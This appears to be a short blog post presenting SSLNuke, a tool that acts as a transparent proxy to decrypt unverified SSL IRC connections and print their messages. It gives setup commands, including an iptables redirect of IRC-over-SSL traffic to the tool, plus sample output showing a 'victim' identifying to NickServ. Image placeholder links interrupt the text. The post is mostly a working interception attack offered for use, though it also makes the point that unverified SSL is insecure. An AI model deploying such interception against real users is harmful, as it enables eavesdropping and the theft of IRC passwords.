SSLNuke - Tool For Intercepting & Decrypting Secure IRC Traffic

SSLNuke is a program designed for decrypting and intercepting "secured" but non-verified IRC traffic. It is basically a transparent proxy that decrypts SSL traffic and prints out IRC messages.

SSL without verification isn't secure at all!


First, add a user account for SSLNuke to run as and add IP tables rules toredirect traffic to it:
# useradd -s /bin/bash -m sslnuke
# grep sslnuke /etc/passwd
# iptables -t nat -A OUTPUT -p tcp -m owner ! --uid-owner 1000 -m tcp \
  --dport 6697 --tcp-flags FIN,SYN,RST,ACK SYN -j REDIRECT --to-ports 4444

Finally, login as SSLNuke, build, and run SSLNuke:
# su -l sslnuke
# cdsslnuke
# make
# ./sslnuke

Run an IRC client and login to your favorite IRC network using SSL, IRC messages will be printed to stdout on SSLNuke.
[*] Received connection from:
[*] Opening connection to:
[*] Connection UsingSSL!
[*] -> AUTH ( *** Looking up your hostname...
[*] -> AUTH ( *** Found your hostname
[*] -> victim ( *** Youare connected to with
[*] -> nickserv ( id hello
[*]NickServ! -> victim ( Password accepted - you are now

Nocomments

Powered by Blogger.